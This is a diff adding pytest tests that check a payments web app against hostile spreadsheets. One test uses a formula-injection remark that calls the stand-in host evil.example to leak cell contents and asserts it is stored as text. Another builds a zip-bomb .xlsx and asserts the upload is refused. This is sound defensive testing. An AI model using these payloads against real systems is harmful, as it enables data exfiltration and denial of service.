@@ -192,3 +192,36 @@ def test_a_tampered_row_is_reported_on_top(ledger, client, login, db):
     g = ledger['orders']['g']
     html = html_of(post_rows(client, [g], [row(g, state='delayed', reason='budget')]))
     assert 'आपके विभाग का आदेश नहीं है' in html
+
+
+# --- hostile spreadsheets ------------------------------------------------------------------------------------------
+
+def test_a_remark_that_looks_like_a_formula_comes_back_as_typed(ledger, client, login, db):
+    """What the department typed is written into the download as text: a spreadsheet never runs it."""
+    login(ledger['officer'])
+    f = ledger['orders']['f']
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"details")'
+    response = post_rows(client, [f], [row(f, state='delayed', reason='other', remark=formula)])
+    assert response.status_code == 200
+    sheet = download(client).active
+    cells = next(cells for cells in sheet.iter_rows(min_row=2) if cells[0].value == f.number)
+    assert cells[11].value == formula and cells[11].data_type == 's'
+
+
+def test_a_zip_bomb_is_refused_before_it_is_unpacked(ledger, client, login, db):
+    import zipfile
+    login(ledger['officer'])
+    buffer = io.BytesIO()
+    download(client).save(buffer)
+    bomb = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source, \
+            zipfile.ZipFile(bomb, 'w', zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            target.writestr(item, source.read(item))
+        target.writestr('xl/media/image1.bin', bytes(12 * 1024 * 1024))  # 12 MB of zeros in about 12 KB
+    assert len(bomb.getvalue()) < 100_000
+    bomb.seek(0)
+    response = client.post('/payments/status/upload', data={'file': (bomb, 'return.xlsx')},
+                           content_type='multipart/form-data')
+    assert response.status_code == 422
+    assert 'एक्सेल फ़ाइल खोलने पर असामान्य रूप से बड़ी हो जाती है' in html_of(response)
